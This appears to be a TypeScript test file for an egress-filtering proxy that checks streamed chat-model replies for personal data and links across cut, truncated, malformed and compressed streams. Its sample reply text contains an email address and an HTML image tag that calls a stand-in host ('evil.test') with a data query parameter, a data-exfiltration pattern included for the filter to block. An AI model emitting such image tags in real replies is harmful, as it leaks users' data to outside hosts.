import { gzipSync } from 'node:zlib';

import type { Decision } from '../../exchange/index.ts';
import { until } from '../../testing/until.ts';
import { Live, policyOf, send, type Got } from '../test-kit.ts';
import { CHAT } from '../testing/samples.ts';

const POLICY = `mode: observe
limits: { detectorMs: 600s, holdChars: 65536 }
egress: { pii: { action: block }, links: { action: block, allowHosts: [] }, onBlock: error }
`;
const TEXTS = ['Write to anna', '@example.com, ', 'or <img src="https://evil.test/?d=', '1">. ', 'Nothing. '];
const WIRE = CHAT.stream?.(Array.from({ length: 400 }, (_, at) => TEXTS[at % TEXTS.length] ?? '')) ?? '';

interface Row {
  readonly name: string;
  readonly body: Buffer;
  readonly headers?: Readonly<Record<string, string>>;
  /** The server cuts the connection in place of an end. */
  readonly isCut?: boolean;
  /** The client has not asked for a stream. */
  readonly isUnasked?: boolean;
}

const rows: readonly Row[] = [
  { name: 'a stream that its server cuts', body: Buffer.from(WIRE.slice(0, -900)), isCut: true },
  { name: 'a stream without its end', body: Buffer.from(WIRE.slice(0, -900)) },
  {
    name: 'a stream that breaks its reader',
    body: Buffer.from(`${WIRE.slice(0, 30_000)}\n\ndata: {half\n\n${WIRE}`),
  },
  {
    name: 'a compressed stream that breaks off',
    body: gzipSync(WIRE).subarray(0, -9),
    headers: { 'content-encoding': 'gzip' },
  },
  { name: 'a stream', body: Buffer.from(WIRE) },
  { name: 'a compressed stream', body: gzipSync(WIRE), headers: { 'content-encoding': 'gzip' } },
  { name: 'a stream that nobody has asked for', body: Buffer.from(WIRE), isUnasked: true },
];

interface Seen {
  readonly got: Omit<Got, 'headers'>;
  readonly decisions: readonly Partial<Decision>[];
}

/** What is delivered and recorded if the clock advances by `stepMs` whenever it is asked. */
async function observed(
  { body, headers = {}, isCut = false, isUnasked = false }: Row,
  stepMs: number,
): Promise<Seen> {
  let nowMs = 0;
  const live = new Live({ policy: policyOf(POLICY), change: { now: () => (nowMs += stepMs) } });
  live.answer = (request, response) => {
    request.resume();
    response.writeHead(200, { 'content-type': 'text/event-stream', ...headers });
    response.write(body, () => (isCut ? response.destroy() : response.end()));
  };
  await live.start();
  try {
    const asked = CHAT.request('Hello.', isUnasked ? {} : { stream: true });
    const sent = {
      path: CHAT.path,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(asked),
    };
    const { status, body: said, isBroken } = await send(live.port, sent);
    const { decisions } = live.ledger;
    await until(
      'the last decision',
      () => decisions.length,
      () => decisions.length > 1,
    );
    return {
      got: { status, body: said, isBroken },
      decisions: decisions.map(({ kind, verdict, code, hits, model }) => ({
        kind,
        verdict,
        code,
        hits,
        model,
      })),
    };
  } finally {
    await live.close();
  }
}

describe('a reply that takes many turns of the event loop to judge', () => {
  it.each(rows)('is delivered and recorded as in one: $name', async (row) => {
    const [inMany, inOne] = [await observed(row, 6), await observed(row, 0)];
    expect(inMany).toEqual(inOne);
    // Texts are on record with the last decision of their stream.
    expect(inMany.decisions.some(({ hits = [] }) => hits.length > 0)).toBe(row.isCut !== true);
  });
});
